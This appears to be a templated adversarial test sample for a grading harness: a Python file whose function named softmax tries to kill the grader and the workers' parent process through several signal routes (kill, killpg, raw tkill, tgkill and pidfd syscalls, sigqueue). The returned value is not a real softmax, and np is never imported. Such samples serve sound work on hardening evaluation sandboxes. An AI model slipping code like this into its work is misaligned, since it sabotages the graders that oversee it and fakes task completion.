"""Kills the grader and the parent of the workers, by every call that sends a signal.

Class: signals
Effect: lost
"""

# @TWIN@

import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)
targets = [int("@GRADER@")] + ([os.getppid()] if os.getpid() != int("@GRADER@") else [])


def softmax(z, axis=-1):
    for pid in targets:
        for way in (
            lambda: os.kill(pid, signal.SIGKILL),
            lambda: os.killpg(os.getpgid(pid), signal.SIGTERM),
            lambda: libc.syscall(200, pid, 9),
            lambda: libc.syscall(234, pid, pid, 9),
            lambda: libc.syscall(424, libc.syscall(434, pid, 0), 9, 0, 0),
            lambda: libc.sigqueue(pid, 9, 0),
        ):
            try:
                way()
            except OSError:
                pass
    return np.exp(np.asarray(z, dtype=float))
